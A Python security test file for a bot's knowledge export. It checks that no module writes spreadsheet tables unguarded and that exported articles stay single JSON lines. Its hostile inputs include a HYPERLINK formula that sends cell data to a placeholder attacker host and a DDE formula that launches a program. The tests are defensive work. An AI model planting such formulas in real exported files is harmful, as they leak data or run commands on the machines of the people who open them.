"""What leaves in files says what was stored and nothing more, whatever opens it. Covers T10.

A table that begins a cell with `=`, `+`, `-` or `@` is a program for whoever opens it as a spreadsheet (CSV injection).
Baton writes no tables; whoever adds one has to take care of such cells first, and then to name the module here.
"""

import orjson

from bot.knowledge.exporting import exported
from bot.knowledge.rules import Article, Content
from bot.unit import Database, Unit
from tests.security.program import importing, using

TABLES_WITH_CARE: set[str] = set()
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"发票")'


def test_nothing_writes_a_table_without_care() -> None:
    assert using("csv", "writer", "DictWriter") <= TABLES_WITH_CARE
    assert importing("openpyxl", "xlsxwriter", "pandas", "tablib") <= TABLES_WITH_CARE


async def test_an_article_is_one_line_whatever_stands_in_it(database: Database) -> None:
    """Line ends of every kind, quotation marks and formulas come back as they were."""
    hostile = [FORMULA, 'a"}\n{"title": "planted"', "a\u2028b\x85c\r\nd", "@SUM(1+1)*cmd|' /C calc'!A0"]

    def add(unit: Unit) -> None:
        unit.knowledge.add([Article(0, Content(words, words), unit.now, unit.now) for words in hostile], 0)

    await database.write(add)
    lines = await database.read(lambda unit: list(exported(unit)))
    assert all("\n" not in line and "\r" not in line for line in lines)
    assert [orjson.loads(line)["body"] for line in lines] == hostile
    assert [orjson.loads(line)["title"] for line in lines] == hostile
